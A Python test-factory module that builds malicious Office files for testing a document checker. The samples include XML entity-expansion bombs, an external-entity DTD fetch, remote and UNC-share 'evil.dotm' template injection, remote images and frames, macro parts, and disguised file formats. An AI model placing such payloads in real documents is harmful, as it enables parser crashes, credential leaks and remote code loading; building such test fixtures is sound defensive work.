"""Packages of Word and Excel that harm, reach out or only look like what they are called; each maker makes one file.

A maker is called with a folder and an address nobody may call; it answers with the path of its file.
"""

import posixpath
from pathlib import Path

from tests.factories.raw_zip import MB, Entry, entry, long_entry, write

_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_SHEET_SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_WORD_SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
Parts = dict[str, str | bytes | Entry]


def _types(main: str, kind: str) -> str:
    return (
        f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )


def relations(*targets: tuple[str, str], outside: bool = False) -> str:
    """A part of relations; each target is the last word of its kind and an address."""
    mode = ' TargetMode="External"' if outside else ""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{_RELATION}{kind}" Target="{target}"{mode}/>'
        for number, (kind, target) in enumerate(targets, 1)
    )
    return f'{_XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def package(path: Path, parts: Parts) -> Path:
    """The parts as one archive, in their order."""
    made = [
        part if isinstance(part, Entry) else entry(name, part.encode() if isinstance(part, str) else part)
        for name, part in parts.items()
    ]
    return write(path, made)


def word_parts(body: str = "<w:p><w:r><w:t>正文</w:t></w:r></w:p>", *, kind: str = _WORD) -> Parts:
    """A Word file that is as small as one may be."""
    return {
        "[Content_Types].xml": _types("word/document.xml", kind),
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": f"{_XML}<w:document {_WORD_SPACE}><w:body>{body}</w:body></w:document>",
    }


def excel_parts(cells: str = '<row r="1"><c r="A1"><v>1</v></c></row>', *, kind: str = _EXCEL) -> Parts:
    """A workbook of one sheet, 名单, that is as small as one may be."""
    return {
        "[Content_Types].xml": _types("xl/workbook.xml", kind),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{_XML}<workbook {_SHEET_SPACE} xmlns:r="{posixpath.dirname(_RELATION)}">'
            '<sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")
        ),
        "xl/worksheets/sheet1.xml": f"{_XML}<worksheet {_SHEET_SPACE}><sheetData>{cells}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f'{_XML}<sst {_SHEET_SPACE} count="1" uniqueCount="1"><si><t>甲</t></si></sst>',
    }


def _excel(folder: Path, *changes: Parts, cells: str = '<row r="1"><c r="A1"><v>1</v></c></row>') -> Path:
    parts = excel_parts(cells)
    for change in changes:
        parts |= change
    return package(folder / "名单.xlsx", parts)


def _word(folder: Path, *changes: Parts) -> Path:
    parts = word_parts()
    for change in changes:
        parts |= change
    return package(folder / "测评表.docx", parts)


def plain_workbook(folder: Path, _: str) -> Path:
    return _excel(folder)


def plain_report(folder: Path, _: str) -> Path:
    return _word(folder)


def far_cell(folder: Path, _: str) -> Path:
    return _excel(
        folder, cells='<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )


def four_million_cells(folder: Path, _: str) -> Path:
    row = b"<row>" + b"<c><v>1</v></c>" * 4000 + b"</row>"
    start = f"{_XML}<worksheet {_SHEET_SPACE}><sheetData>".encode()
    sheet = long_entry("xl/worksheets/sheet1.xml", row, 1000, before=start, after=b"</sheetData></worksheet>")
    return _excel(folder, {"xl/worksheets/sheet1.xml": sheet})


def many_named_cells(folder: Path, _: str) -> Path:
    """Over two million cells that pack no better than those of people do."""
    digits = "".join(f"{number * 7919 % 99991:05d}" for number in range(4001))
    cells = b"".join(
        b'<c r="A%s"><v>%s</v></c>' % (digits[at : at + 5].encode(), digits[at * 3 : at * 3 + 8].encode())
        for at in range(6000)
    )
    start = f"{_XML}<worksheet {_SHEET_SPACE}><sheetData><row r='1'>".encode()
    sheet = long_entry("xl/worksheets/sheet1.xml", cells, 350, before=start, after=b"</row></sheetData></worksheet>")
    return _excel(folder, {"xl/worksheets/sheet1.xml": sheet})


def long_string(folder: Path, _: str) -> Path:
    start = f'{_XML}<sst {_SHEET_SPACE} count="1" uniqueCount="1"><si><t>'.encode()
    strings = long_entry("xl/sharedStrings.xml", b"A" * MB, 400, before=start, after=b"</t></si></sst>")
    return _excel(folder, {"xl/sharedStrings.xml": strings})


def many_strings_announced(folder: Path, _: str) -> Path:
    lie = f'{_XML}<sst {_SHEET_SPACE} count="4000000000" uniqueCount="4000000000"><si><t>甲</t></si></sst>'
    return _excel(folder, {"xl/sharedStrings.xml": lie})


def entity_bomb_in_sheet(folder: Path, _: str) -> Path:
    sheet = f"{_BOMB}]><worksheet {_SHEET_SPACE}><sheetData><row><c><v>&i;</v></c></row></sheetData></worksheet>"
    return _excel(folder, {"xl/worksheets/sheet1.xml": sheet})


def entity_bomb_in_types(folder: Path, _: str) -> Path:
    types = str(excel_parts()["[Content_Types].xml"]).removeprefix(_XML)
    return _excel(folder, {"[Content_Types].xml": f"{_BOMB}]>{types}"})


def entity_bomb_in_utf16(folder: Path, _: str) -> Path:
    sheet = f"{_BOMB}]><worksheet {_SHEET_SPACE}/>".encode("utf-16")
    return _excel(folder, {"xl/worksheets/sheet1.xml": sheet})


def external_entity(folder: Path, address: str) -> Path:
    strings = f'<!DOCTYPE sst SYSTEM "http://{address}/x.dtd"><sst {_SHEET_SPACE}><si><t>甲</t></si></sst>'
    return _excel(folder, {"xl/sharedStrings.xml": strings})


def external_book(folder: Path, address: str) -> Path:
    link = f'{_XML}<externalLink {_SHEET_SPACE}><externalBook r:id="rId1" xmlns:r="{_RELATION}"/></externalLink>'
    return _excel(
        folder,
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("externalLinkPath", f"http://{address}/book.xlsx"), outside=True
            ),
        },
    )


def data_connection(folder: Path, address: str) -> Path:
    return _excel(
        folder, {"xl/connections.xml": f'{_XML}<connections {_SHEET_SPACE}><x url="http://{address}/"/></connections>'}
    )


def remote_picture_in_sheet(folder: Path, address: str) -> Path:
    drawn = relations(("image", f"http://{address}/pixel.png"), outside=True)
    return _excel(folder, {"xl/drawings/_rels/drawing1.xml.rels": drawn})


def hidden_macro(folder: Path, _: str) -> Path:
    return _excel(folder, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macro"})


def macro_sheet(folder: Path, _: str) -> Path:
    return _excel(folder, {"xl/macrosheets/sheet9.xml": f"{_XML}<macrosheet {_SHEET_SPACE}/>"})


def renamed_xlsm(folder: Path, _: str) -> Path:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return package(folder / "名单.xlsx", excel_parts(kind=kind))


def renamed_docm(folder: Path, _: str) -> Path:
    return package(folder / "测评表.docx", word_parts(kind="application/vnd.ms-word.document.macroEnabled.main+xml"))


def renamed_xlsb(folder: Path, _: str) -> Path:
    kind = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    return package(folder / "名单.xlsx", excel_parts(kind=kind))


def renamed_dotx(folder: Path, _: str) -> Path:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    return package(folder / "测评表.docx", word_parts(kind=kind))


def _ole(path: Path, stream: str) -> Path:
    """As much of a compound file as tells it: its mark, and one directory entry with the name of a stream."""
    name = stream.encode("utf-16-le").ljust(64, b"\x00")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\x00") + name.ljust(512, b"\x00"))
    return path


def old_xls(folder: Path, _: str) -> Path:
    return _ole(folder / "名单.xls", "Workbook")


def renamed_xls(folder: Path, _: str) -> Path:
    return _ole(folder / "名单.xlsx", "Book")


def renamed_doc(folder: Path, _: str) -> Path:
    return _ole(folder / "测评表.docx", "WordDocument")


def locked_workbook(folder: Path, _: str) -> Path:
    return _ole(folder / "名单.xlsx", "EncryptedPackage")


def locked_report(folder: Path, _: str) -> Path:
    return _ole(folder / "测评表.docx", "EncryptedPackage")


def renamed_ods(folder: Path, _: str) -> Path:
    kind = entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    return write(folder / "名单.xlsx", [kind, entry("content.xml", b"<office/>")])


def renamed_ofd(folder: Path, _: str) -> Path:
    return write(folder / "执照.pdf", [entry("OFD.xml", b"<ofd:OFD/>")])


def renamed_zip(folder: Path, _: str) -> Path:
    return write(folder / "名单.xlsx", [entry("名单.csv", b"a,b\n")])


def renamed_web_page(folder: Path, _: str) -> Path:
    path = folder / "名单.xlsx"
    path.write_text("<html><table><tr><td>名称</td></tr></table></html>", encoding="utf-8")
    return path


def doubled_part(folder: Path, _: str) -> Path:
    parts = excel_parts()
    made = [entry(name, str(part).encode()) for name, part in parts.items()]
    other = str(parts["xl/worksheets/sheet1.xml"]).replace("<v>1</v>", "<v>999</v>")
    return write(folder / "名单.xlsx", [*made, entry("xl/worksheets/sheet1.xml", other.encode())])


def doctype_in_report(folder: Path, address: str) -> Path:
    body = f'<!DOCTYPE w [<!ENTITY x SYSTEM "http://{address}/">]><w:document {_WORD_SPACE}><w:t>&x;</w:t></w:document>'
    return _word(folder, {"word/document.xml": body})


def doctype_in_footnotes(folder: Path, _: str) -> Path:
    return _word(folder, {"word/footnotes.xml": f"{_BOMB}]><w:footnotes {_WORD_SPACE}>&i;</w:footnotes>"})


def long_text_node(folder: Path, _: str) -> Path:
    start = f"{_XML}<w:document {_WORD_SPACE}><w:body><w:p><w:r><w:t>".encode()
    end = b"</w:t></w:r></w:p></w:body></w:document>"
    return _word(
        folder, {"word/document.xml": long_entry("word/document.xml", b"A" * MB, 300, before=start, after=end)}
    )


def embedded_object(folder: Path, _: str) -> Path:
    related = relations(("oleObject", "embeddings/oleObject1.bin"))
    return _word(
        folder, {"word/_rels/document.xml.rels": related, "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
    )


def remote_template(folder: Path, address: str) -> Path:
    related = relations(("attachedTemplate", f"http://{address}/evil.dotm"), outside=True)
    return _word(folder, {"word/_rels/settings.xml.rels": related})


def share_template(folder: Path, address: str) -> Path:
    server = address.partition(":")[0]
    related = relations(("attachedTemplate", f"file:///\\\\{server}\\share\\evil.dotm"), outside=True)
    return _word(folder, {"word/_rels/settings.xml.rels": related})


def local_template(folder: Path, _: str) -> Path:
    related = relations(("attachedTemplate", "file:///C:\\Users\\wang\\Normal.dotm"), outside=True)
    return _word(folder, {"word/_rels/settings.xml.rels": related})


def remote_picture(folder: Path, address: str) -> Path:
    related = relations(("image", f"http://{address}/pixel.png"), outside=True)
    return _word(folder, {"word/_rels/document.xml.rels": related})


def remote_frame(folder: Path, address: str) -> Path:
    related = relations(("frame", f"http://{address}/page.html"), outside=True)
    return _word(folder, {"word/_rels/webSettings.xml.rels": related})


def hyperlink(folder: Path, address: str) -> Path:
    related = relations(("hyperlink", f"http://{address}/"), outside=True)
    return _word(folder, {"word/_rels/document.xml.rels": related})


def chart_with_its_table(folder: Path, _: str) -> Path:
    inner = package(folder / "inner.xlsx", excel_parts())
    data = inner.read_bytes()
    inner.unlink()
    related = relations(("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx"))
    return _word(
        folder, {"word/charts/_rels/chart1.xml.rels": related, "word/embeddings/Microsoft_Excel_Sheet1.xlsx": data}
    )


def zip_in_package(folder: Path, _: str) -> Path:
    return _word(folder, {"word/media/image1.png": write(folder / "x", [entry("a")]).read_bytes()})


def foreign_encoding(folder: Path, _: str) -> Path:
    body = f'<?xml version="1.0" encoding="GB18030"?><w:document {_WORD_SPACE}/>'
    return _word(folder, {"word/document.xml": body.encode("gb18030")})
